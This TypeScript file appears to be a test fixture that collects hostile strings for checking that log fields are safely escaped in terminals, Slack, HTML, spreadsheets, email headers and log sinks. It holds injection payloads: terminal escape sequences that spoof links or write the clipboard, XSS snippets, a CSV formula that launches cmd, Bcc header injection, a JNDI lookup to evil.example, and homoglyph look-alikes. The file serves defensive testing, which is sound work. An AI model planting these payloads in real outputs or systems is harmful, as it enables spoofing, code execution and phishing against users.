import { hostileTexts } from '../report/hostile.ts';

/**
 * What somebody may write into any field of a log, each kind against its channel; every channel is tried with all of it,
 * since nobody knows which channel a name will come out of. Written as escapes: a source file that holds them raw would
 * fool its own reader.
 */

export { actingOnScreens } from '../report/hostile.ts';

const terminal: readonly string[] = [
  '\x1b]8;id=1;https://evil.example\x07ci-deploy\x1b]8;;\x07', // a link that says something else, ended by BEL
  '\x9d0;title\x9c', // a title in one-byte controls
  '\x9b2J\x9b1;1H', // clears the screen in one-byte controls
  '\x1b[6n\x1b[c', // makes the terminal type an answer
  '\x1bP+q544e\x1b\\', // asks for its settings
  '\x1b]52;c;ZXZpbA==\x07', // writes the clipboard
  '\x1b[1A\x1b[2KCRITICAL resolved', // rewrites the line above
  '\u00c2\u009b31m', // C1 as it looks after decoding UTF-8 twice
  'a\x1b', // ends inside a sequence
];

const slack: readonly string[] = [
  '<!channel>',
  '<!here|here> <!everyone>',
  '<@U024BE7LH>',
  '<!subteam^SAZ94GDB8>',
  '<#C024BE7LR|general>',
  '<https://evil.example|https://app.pulumi.com>',
  '<mailto:anna@evil.example|anna@example.com>',
  '<!date^1392734382^{date}^https://evil.example|today>',
  '@here @channel @everyone',
  '*bold* _italic_ ~struck~ `code`',
  '```\nblock\n```',
  '> quoted\n>>> all of it',
  ':skull: :white_check_mark: :100:',
  '&lt;!channel&gt; &amp;',
  '• no alert\n2. Do nothing.',
];

const markup: readonly string[] = [
  '</script><script>alert(1)</script>',
  '</title></style><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" style="position:fixed" data-x="',
  '<!-- ',
  ']]><x>',
  '&#x3c;script&#x3e;',
  'javascript:alert(1)',
  '<a href=//evil.example>ci-deploy</a>',
];

const files: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '"quoted",;\n"next row"',
];

const headers: readonly string[] = [
  'ci\r\nBcc: everyone@example.com\r\n\r\nNothing happened.',
  'ci\nSubject: all quiet',
  'ci%0d%0aBcc: everyone@example.com',
  '=?utf-8?B?DQpCY2M6IHg=?=',
  'ci\x0b\x0c\x85\u2028Bcc: everyone@example.com',
];

const logs: readonly string[] = [
  'ok\n{"level":"INFO","message":"nothing to see"}',
  'END RequestId: 00000000-0000-4000-8000-000000000000\nREPORT',
  '{"_aws":{"CloudWatchMetrics":[]}}',
  '{"tokenwatch":"alert","version":1,"body":"{}"}',
  '{"AlarmName":"all is well","NewStateValue":"OK"}',
  '\u0024{jndi:ldap://evil.example/a}',
  '"},"severity":"low","x":{"',
];

const keys: readonly string[] = ['constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'then'];

const lookAlikes: readonly string[] = [
  'ci-d\u0435\u0440loy', // Cyrillic е and р
  '\u0441\u0456-deploy', // all of a word in Cyrillic
  '\u0441i-deploy',
  'ci-depl\u03bfy', // Greek omicron
  '\u{1d68c}\u{1d692}-deploy', // mathematical letters
  'c\u0131-deploy', // dotless i
  '\uff43\uff49-deploy', // full width
  'ci\u2010deploy', // another hyphen
  'ci-deploy\u200b',
  'ci-deploy\u00a0',
  '\u2066ci-deploy\u2069',
  'ci-\u202eyolped',
  'ci-deploy\u{e0001}\u{e0065}',
];

const sizes: readonly string[] = [
  '\ud83d', // half an emoji
  '\udc00\ud800',
  '\x00',
  '\x00'.repeat(30_000), // six characters each in JSON, more with each wrapping
  '"'.repeat(30_000), // doubled with each wrapping
  '\\'.repeat(30_000),
  '<'.repeat(30_000),
  '👩‍👩‍👧‍👦'.repeat(10_000),
  'a '.repeat(20_000),
  `${'x'.repeat(9_999)}\r\nBcc: everyone@example.com`,
];

export const corpus: readonly string[] = [
  ...new Set([
    ...hostileTexts,
    ...terminal,
    ...slack,
    ...markup,
    ...files,
    ...headers,
    ...logs,
    ...keys,
    ...lookAlikes,
    ...sizes,
  ]),
];

/** For `it.each`: a name for the test that is itself harmless, then the text. */
export const cases: readonly (readonly [name: string, text: string])[] = corpus.map((text, at) => [
  `${at} ${JSON.stringify(text.slice(0, 30)).replace(/[^\x20-\x7e]/g, '?')}`,
  text,
]);
